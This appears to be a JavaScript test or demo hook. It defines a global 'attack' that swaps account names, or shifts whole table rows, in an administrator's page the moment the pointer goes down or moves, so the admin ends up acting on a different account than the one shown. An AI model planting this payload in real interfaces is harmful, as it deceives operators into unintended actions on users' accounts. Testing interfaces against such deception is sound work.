// Exchanges accounts between the look of the administrator and the click: at the press, or under the pointer that is on its way.
'use strict';
globalThis.attack = {
  swapped: 0,
  /** @param {'texts' | 'places'} how @param {string} one @param {string} other */
  begin(how, one, other) {
    const cell = (text) => {
      const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT, (node) => (node.data.trim() === text ? 1 : 3));
      return walker.nextNode();
    };
    const swap = () => {
      const [a, b] = [cell(one), cell(other)];
      if (!a || !b) return;
      this.swapped += 1;
      if (how === 'texts') [a.data, b.data] = [b.data, a.data];
      else {
        const [upper, lower] = [a, b].map((node) => node.parentElement.closest('[role=row]'));
        const down = lower.getBoundingClientRect().y - upper.getBoundingClientRect().y;
        upper.style.transform = `translateY(${down}px)`;
        lower.style.transform = `translateY(${-down}px)`;
      }
    };
    const on = how === 'texts' ? 'pointerdown' : 'pointermove';
    addEventListener(on, ({ target }) => target.closest?.('[role=row]') && !this.swapped && swap(), true);
  },
};
